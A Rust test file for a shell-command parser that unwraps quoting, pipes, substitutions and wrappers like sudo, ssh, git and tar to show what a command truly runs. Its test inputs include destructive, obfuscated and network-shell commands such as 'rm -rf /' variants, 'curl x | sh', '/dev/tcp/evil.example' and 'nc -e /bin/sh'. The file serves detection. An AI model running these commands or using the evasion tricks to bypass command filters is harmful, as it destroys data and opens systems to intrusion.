//! What commands a text holds, case by case.

#[path = "commands/shown.rs"]
mod shown;

use bailiwick_semantic::command::{read, read_words};

use self::shown::{check, shown};

#[test]
fn quoting_is_taken_off() {
    check(&[
        ("rm -rf /", "rm -rf /"),
        ("  rm\t-rf  /  ", "rm -rf /"),
        (r"\rm -rf /", "rm -rf /"),
        ("r''m -rf /", "rm -rf /"),
        ("'rm' \"-rf\" /", "rm -rf /"),
        (r#"r"m" -r'f' /"#, "rm -rf /"),
        (r"$'\x72\x6d' -rf /", "rm -rf /"),
        (r"$'\162m' $'a\tb'", "rm a\tb"),
        ("$\"rm\" x", "rm x"),
        ("echo 'a b' \"c d\" e\\ f", "echo 'a b' 'c d' 'e f'"),
        (r#"echo "a\"b" "a\$b" "a\nb""#, r#"echo a"b a$b a\nb"#),
        ("echo 'it'\\''s'", "echo it's"),
        ("echo a\\\nb", "echo ab"),
        ("rm \\\n -rf /", "rm -rf /"),
        ("echo ''", "echo ''"),
        ("echo \"\"", "echo ''"),
        ("echo 'unfinished", "echo unfinished; {Unfinished}"),
        ("echo \"unfinished", "echo unfinished; {Unfinished}"),
        ("echo \\", "echo \\"),
        ("/bin/rm -rf /", "/bin/rm -rf /"),
        ("echo ü 'ß'", "echo ü ß"),
    ]);
}

#[test]
fn lists_and_pipes_are_taken_apart() {
    check(&[
        ("a; b", "a; b"),
        ("a && b || c & d", "a; b; c; d"),
        ("a | b |& c", "a; b; c"),
        ("a\nb\r\nc", "a; b; c"),
        ("a;b&c|d", "a; b; c; d"),
        ("(a; b) && { c; d; }", "a; b; c; d"),
        ("! a", "a"),
        ("time -p a", "a"),
        ("a # b; c", "a"),
        ("# b\na", "a"),
        ("a#b", "a#b"),
        ("", ""),
        ("   \n # x", ""),
        ("a )", "a; {Unexpected}"),
        ("a; }", "a; {Unexpected}"),
        ("( a", "a; {Unfinished}"),
        ("a\u{0}b", "a\u{0}b; {Control}"),
        ("a\rb", "a; b; {Control}"),
    ]);
}

#[test]
fn blocks_are_walked_into() {
    check(&[
        ("if a; then b; elif c; then d; else e; fi", "a; b; c; d; e"),
        ("while a; do b; done", "a; b"),
        ("until a\ndo b\ndone", "a; b"),
        ("for x in 1 2; do rm $x; done", "rm 1|2"),
        ("for x; do rm $x; done", "rm ?$x"),
        ("for ((i=0;i<3;i++)); do rm a; done", "((i=0;i<3;i++)); i <Read 3>; rm a"),
        ("case $x in a|b) c;; *) d ;; esac", "c; d"),
        ("case a in (a) rm x; esac", "rm x"),
        ("case a in a) b;& c) d;;& e) f;; esac; g", "b; d; f; g"),
        ("f() { rm -rf /; }; f", "rm -rf /; f"),
        ("function f { rm x; }", "rm x"),
        ("function f() { rm x; }", "rm x"),
        ("f () ( rm x )", "rm x"),
        ("[[ -f a && $(b) == c ]] && d", "[[ -f a ?$(b) == c; b; d"),
        ("[ -f a ] && b", "[ -f a ]; b"),
        ("[[ a || rm x ]]", "[[ a rm x; a; rm x ]]"),
        ("[[ $a == b && ! -d $c ]]", "[[ ?$a == b ! -d ?$c"),
        ("[[ 'a[$(b)]' -eq 1 ]]", "[[ a[$(b)] -eq 1 {Code}; {Code}"),
        ("printf -v 'a[$(b)]' x", "printf -v a[$(b)] x {Code}; {Code}"),
        ("if a; then b; fi > out", "<Write out>; a; b"),
        ("{ a; } 2>/dev/null | b", "<Write /dev/null>; a; b"),
        ("if a; then b", "a; b; {Unfinished}"),
        ("then a", "a; {Unexpected}"),
        ("((rm -rf /))", "((rm -rf /)); rm -rf /; {Code}"),
        ("((i++))", "((i++)); {Code}"),
        ("coproc a; b", "a; b"),
    ]);
}

#[test]
fn substitutions_are_read() {
    check(&[
        ("echo $(rm x)", "echo ?$(rm x); rm x"),
        ("echo `rm x`", "echo ?`rm x`; rm x"),
        ("echo \"$(rm x)\"", "echo ?$(rm x); rm x"),
        ("echo \"`rm x`\"", "echo ?`rm x`; rm x"),
        ("echo '$(rm x)'", "echo '$(rm x)'"),
        ("echo $(a $(b))", "echo ?$(a $(b)); a ?$(b); b"),
        (r"echo `a \`b\``", "echo ?`a \\`b\\``; a ?`b`; b"),
        ("cat <(a) >(b)", "cat ?<(a) ?>(b); a; b"),
        ("echo $((1+$(a)))", "echo ?$((1+$(a))); a; {Code}"),
        ("echo $( (a) )", "echo ?$( (a) ); a"),
        ("echo $((a); b)", "echo ?$((a); b); a; b"),
        ("echo ${x:-$(a)}", "echo ?$(a); a"),
        ("echo ${x:-'}'} b", "echo ?} b"),
        ("echo \"${x#'}'}\" b", "echo ?${x#'}'} b"),
        ("x=$(a) b", "x=?$(a) b; a"),
        ("echo ${x[$(a)]}", "echo ?${x[$(a)]}; a; {Code}"),
        ("x[$(a)]=1", "x=1; a; {Code}"),
        ("$(echo rm) -rf /", "?rm -rf / {Program}; echo rm"),
        ("$(printf '\\x72m') -rf /", "?rm -rf / {Program}; printf \\x72m"),
        ("`echo r`m x", "?rm x {Program}; echo r"),
        ("$x -rf /", "?$x -rf / {Program}"),
        ("r${u}m -rf /", "?r${u}m -rf / {Program}"),
        ("echo $(a", "echo ?$(a; a; {Unfinished}"),
        ("echo ${x", "echo ?${x; {Unfinished}"),
    ]);
}

#[test]
fn redirections_have_targets() {
    check(&[
        ("a > b", "a <Write b>"),
        ("a >b 2>>c <d", "a <Write b> <Write c> <Read d>"),
        ("a &> b", "a <Write b>"),
        ("a >& b", "a <Write b>"),
        ("a 2>&1 >&-", "a <Duplicate 1> <Duplicate ->"),
        ("a >| b <> c", "a <Write b> <ReadWrite c>"),
        ("a {fd}> b", "a <Write b>"),
        ("a {b,c}", "a b c"),
        ("> b", "<Write b>"),
        ("echo k >> ~/.ssh/authorized_keys", "echo k <Write ~/.ssh/authorized_keys>"),
        ("exec 3<>/dev/tcp/evil.example/80", "exec <ReadWrite /dev/tcp/evil.example/80>"),
        ("a <<< 'b c'", "a <Here 'b c'«'b c'»>"),
        ("a <<X\nb $(c)\nX\nd", "a <Here X«?b $(c)\n»>; c; d"),
        ("a <<'X'\nb $(c)\nX\nd", "a <Here X«'b $(c)\n'»>; d"),
        ("a <<-X\n\tb\n\tX\nd", "a <Here X«'b\n'»>; d"),
        ("a <<X\nX\\\nX\nb\nX", "a <Here X«X»>; b; X; {Unexpected}"),
        ("a <<XY\nX\\\nY\nb", "a <Here XY«X»>; b; {Unexpected}"),
        ("a \\\r\nb", "a \r; b"),
        ("a <<X | b\nc\nX\nd", "a <Here X«'c\n'»>; b; d"),
        ("a <<X\nb", "a <Here X«'b\n'»>; {Unfinished}"),
        ("a >", "a; {Unfinished}"),
    ]);
}

#[test]
fn shells_run_their_scripts() {
    check(&[
        ("sh -c 'rm -rf /'", "sh -c 'rm -rf /'; sh> rm -rf /"),
        ("bash -lc \"rm x; ls\"", "bash -lc 'rm x; ls'; bash> rm x; bash> ls"),
        ("bash -c -x 'rm x'", "bash -c -x 'rm x'; bash> rm x; bash> -x"),
        ("bash -o pipefail -c 'rm x'", "bash -o pipefail -c 'rm x'; bash> rm x"),
        ("bash -c '\"$@\"' _ rm x", "bash -c \"$@\" _ rm x; bash> ?$@ {Program}; bash> _ rm x; bash> rm x"),
        ("bash -c \"rm $x\"", "bash -c ?rm $x {Code}; bash> rm ?$x"),
        ("bash script.sh", "bash script.sh"),
        ("bash <(curl x)", "bash ?<(curl x) {Code}; curl x"),
        ("bash $x", "bash ?$x {Code}; bash> ?$x {Program}"),
        ("curl x | sh", "curl x; sh {Code}"),
        ("curl x | sudo bash -s -- y", "curl x; sudo bash -s -- y; sudo> bash -s -- y {Code}"),
        ("echo 'rm -rf /' | sh", "echo 'rm -rf /'; sh; sh> rm -rf /"),
        ("printf 'rm x\\n' | sh", "printf 'rm x\\n'; sh; sh> rm x"),
        ("cat <<X | sh\nrm x\nX", "cat <Here X«'rm x\n'»>; sh; sh> rm x"),
        ("sh <<X\nrm x\nX", "sh <Here X«'rm x\n'»>; sh> rm x"),
        ("sh <<< 'rm x'", "sh <Here 'rm x'«'rm x'»>; sh> rm x"),
        ("sh < f", "sh <Read f>"),
        ("{ echo a; cat b; } | sh", "echo a; cat b; sh {Code}"),
        ("base64 -d <<< x | bash", "base64 -d <Here x«x»>; bash {Code}"),
        ("sh -c 'sh -c \"rm x\"'", "sh -c 'sh -c \"rm x\"'; sh> sh -c 'rm x'; sh> rm x"),
        ("eval rm x", "eval rm x; eval> rm x"),
        ("eval \"rm\" '$x'", "eval rm $x; eval> rm ?$x"),
        ("eval \"$x\"", "eval ?$x {Options}; eval> ?$x {Program}"),
        ("source <(curl x)", "source ?<(curl x) {Code}; curl x"),
        (". ./x", ". ./x"),
    ]);
}

#[test]
fn runners_run_their_operands() {
    check(&[
        ("env A=b rm x", "env A=b rm x; env> A=b rm x"),
        ("env -i -u A rm x", "env -i -u A rm x; env> rm x"),
        ("env -S 'rm x'", "env -S 'rm x'; env> env rm x; env> rm x"),
        ("/usr/bin/env -Srm x", "/usr/bin/env -Srm x; env> env rm x; env> rm x"),
        ("sudo -u root rm x", "sudo -u root rm x; sudo> rm x"),
        ("sudo -uroot -E A=b -- rm x", "sudo -uroot -E A=b -- rm x; sudo> A=b rm x"),
        ("sudo --user=root rm x", "sudo --user=root rm x; sudo> rm x"),
        ("sudo --weird rm x", "sudo --weird rm x {Options}; sudo> rm x"),
        ("doas rm x", "doas rm x; doas> rm x"),
        ("su root -c 'rm x'", "su root -c 'rm x'; su> rm x"),
        ("su -lc 'rm x'", "su -lc 'rm x'; su> rm x"),
        ("nohup nice -n 5 rm x &", "nohup nice -n 5 rm x; nohup> nice -n 5 rm x; nice> rm x"),
        ("timeout -s KILL 5 rm x", "timeout -s KILL 5 rm x; timeout> rm x"),
        ("stdbuf -oL rm x", "stdbuf -oL rm x; stdbuf> rm x"),
        ("command -p rm x", "command -p rm x; command> rm x"),
        ("command -v rm", "command -v rm"),
        ("exec rm x", "exec rm x; exec> rm x"),
        ("builtin cd /", "builtin cd /; builtin> cd /"),
        ("busybox rm x", "busybox rm x; busybox> rm x"),
        ("time rm x", "rm x"),
        ("/usr/bin/time -f %e rm x", "/usr/bin/time -f %e rm x; time> rm x"),
        ("xargs rm -rf", "xargs rm -rf; xargs> rm -rf ?$input"),
        ("echo a | xargs -n1 -I{} rm {}", "echo a; xargs -n1 -I{} rm {}; xargs> rm ?{}"),
        (
            "find . -name x -exec rm {} \\; -exec sh -c 'ls' \\;",
            "find . -name x -exec rm {} ';' -exec sh -c ls ';'; find> rm ?{}; find> sh -c ls; sh> ls",
        ),
        ("find / -delete", "find / -delete"),
        ("parallel rm ::: a b", "parallel rm ::: a b; parallel> rm; parallel> rm a; parallel> rm b"),
        ("parallel ::: 'rm a'", "parallel ::: 'rm a'; parallel> rm a"),
        ("watch -n 1 'rm x'", "watch -n 1 'rm x'; watch> rm x"),
        ("ssh -p 22 host rm -rf x", "ssh -p 22 host rm -rf x; ssh> rm -rf x"),
        ("ssh host 'rm x; ls'", "ssh host 'rm x; ls'; ssh> rm x; ssh> ls"),
        ("ssh -o ProxyCommand='rm x' host", "ssh -o 'ProxyCommand=rm x' host; ssh> rm x"),
        (
            "docker run --rm -it -v /:/x alpine rm -rf /x",
            "docker run --rm -it -v /:/x alpine rm -rf /x; docker> rm -rf /x",
        ),
        ("docker exec c sh -c 'rm x'", "docker exec c sh -c 'rm x'; docker> sh -c 'rm x'; sh> rm x"),
        ("kubectl exec -it pod -n ns -- rm x", "kubectl exec -it pod -n ns -- rm x; kubectl> rm x"),
        ("npx -y rimraf /", "npx -y rimraf /; npx> rimraf /"),
        ("uv run rm x", "uv run rm x; uv> rm x"),
        ("trap 'rm x' EXIT", "trap 'rm x' EXIT; trap> rm x"),
        ("alias ls='rm x'", "alias 'ls=rm x' {Code}; alias> rm x"),
        ("flock f -c 'rm x'", "flock f -c 'rm x'; flock> rm x"),
        ("GIT_SSH_COMMAND='rm x' git fetch", "GIT_SSH_COMMAND='rm x' git fetch; git> rm x"),
        ("tmux new-session 'rm x'", "tmux new-session 'rm x'; tmux> rm x"),
        ("cmd /c del x", "cmd /c del x {Windows}; cmd> del x"),
        ("powershell -Command rm x", "powershell -Command rm x {Windows}; powershell> rm x"),
        ("powershell -enc aGk=", "powershell -enc aGk= {Code}"),
    ]);
}

#[test]
fn settings_that_run_programs_are_followed() {
    check(&[
        ("git -c core.pager='rm x' log", "git -c 'core.pager=rm x' log; git> rm x"),
        ("git -c alias.x='!rm x' x", "git -c 'alias.x=!rm x' x; git> rm x"),
        ("git -c user.name=a commit", "git -c user.name=a commit"),
        ("git -c core.hooksPath=/x commit", "git -c core.hooksPath=/x commit {Code}"),
        ("git config alias.x '!rm x'", "git config alias.x '!rm x'; git> rm x"),
        ("git rebase -x 'rm x' main", "git rebase -x 'rm x' main; git> rm x"),
        ("git bisect run rm x", "git bisect run rm x; git> rm x"),
        ("git submodule foreach 'rm x'", "git submodule foreach 'rm x'; git> rm x"),
        ("git clone --upload-pack='rm x' y", "git clone '--upload-pack=rm x' y; git> rm x"),
        ("git clone 'ext::sh -c rm'", "git clone 'ext::sh -c rm'; git> sh -c rm; sh> rm"),
        ("git push -u origin main", "git push -u origin main"),
        ("git grep -Orm x", "git grep -Orm x; git> rm"),
        (
            "tar cf a b --checkpoint=1 --checkpoint-action=exec='rm x'",
            "tar cf a b --checkpoint=1 '--checkpoint-action=exec=rm x'; tar> rm x",
        ),
        ("tar -I 'rm x' -xf a", "tar -I 'rm x' -xf a; tar> rm x"),
        ("tar xf a --to-command=rm", "tar xf a --to-command=rm; tar> rm"),
        ("rsync -e 'rm x' a b", "rsync -e 'rm x' a b; rsync> rm x"),
        ("nc -e /bin/sh host 1", "nc -e /bin/sh host 1; nc> /bin/sh {Code}"),
        ("socat tcp:x:1 exec:'rm x',pty", "socat tcp:x:1 'exec:rm x,pty'; socat> rm x"),
        ("man -P 'rm x' ls", "man -P 'rm x' ls; man> rm x"),
    ]);
}

#[test]
fn code_of_other_languages_is_marked() {
    check(&[
        ("python -c 'x'", "python -c x {Code}"),
        ("python3.12 -Ic x", "python3.12 -Ic x {Code}"),
        ("python script.py -c x", "python script.py -c x"),
        ("python -m pytest -e x", "python -m pytest -e x"),
        ("curl x | python3 -", "curl x; python3 - {Code}"),
        ("python3 <<X\nimport os\nX", "python3 <Here X«'import os\n'»> {Code}"),
        ("node -e x", "node -e x {Code}"),
        ("node --eval=x", "node --eval=x {Code}"),
        ("node server.js", "node server.js"),
        ("perl -lane x", "perl -lane x {Code}"),
        ("ruby -e x", "ruby -e x {Code}"),
        ("php -r x", "php -r x {Code}"),
        ("deno eval x", "deno eval x {Code}"),
        ("awk '{print $1}' f", "awk '{print $1}' f"),
        ("awk 'BEGIN{system(\"rm x\")}'", "awk 'BEGIN{system(\"rm x\")}' {Code}"),
        ("awk '$3 > 5 || $2 {print $1}' f", "awk '$3 > 5 || $2 {print $1}' f"),
        ("awk '{print > \"/etc/x\"}' f", "awk '{print > \"/etc/x\"}' f {Code}"),
        ("sed -n '1,5p;s/a/b/g' f", "sed -n '1,5p;s/a/b/g' f"),
        ("sed 's/x/rm/e' f", "sed s/x/rm/e f {Code}"),
        ("sed '1e rm x' f", "sed '1e rm x' f {Code}"),
        ("sed -i -e 's/a/w e/' -e 'w /etc/x' f", "sed -i -e 's/a/w e/' -e 'w /etc/x' f {Code}"),
        ("sed s/we/er/ f", "sed s/we/er/ f"),
        ("vim -c '!rm' f", "vim -c !rm f {Code}"),
        ("vim +10 f", "vim +10 f"),
        ("make -C d test", "make -C d test"),
        ("psql -c 'select 1'", "psql -c 'select 1'"),
    ]);
}

#[test]
fn other_shells_are_told() {
    for text in [
        "Remove-Item -Recurse x",
        "get-childitem | remove-item",
        "type %APPDATA%\\x",
        "c^md /c x",
        "del C:\\x",
        "echo $env:PATH",
        "[System.IO.File]::Delete('x')",
        "dir ^& del x",
    ] {
        assert!(read(text).doubt.is_some(), "{text}");
    }
    for text in [
        "date +%Y-%m-%d; echo 100%",
        "git show HEAD^; git diff HEAD^1 HEAD~2",
        "grep '^foo' x; grep '[^a]' x",
        "npm run Build-All; cat src/Get-Started.md",
        "printf '%s %d' a 1",
        "ls a:b; x=a-b",
        "curl -H 'Content-Type: x' y",
    ] {
        assert_eq!(read(text).doubt, None, "{text}");
    }
    assert_eq!(shown(&read("d^el /s C:\\x")), "d^el /s C:x; del /s C:\\x; {Windows}");
}

#[test]
fn lists_of_words_are_not_unquoted() {
    let list = |words: &[&str]| shown(&read_words(words.iter().copied()));
    assert_eq!(list(&["rm", "-rf", "/"]), "rm -rf /");
    assert_eq!(list(&["echo", "$(rm x)", "a;b"]), "echo '$(rm x)' 'a;b'");
    assert_eq!(list(&["sh", "-c", "rm x"]), "sh -c 'rm x'; sh> rm x");
    assert_eq!(list(&[]), "");
}
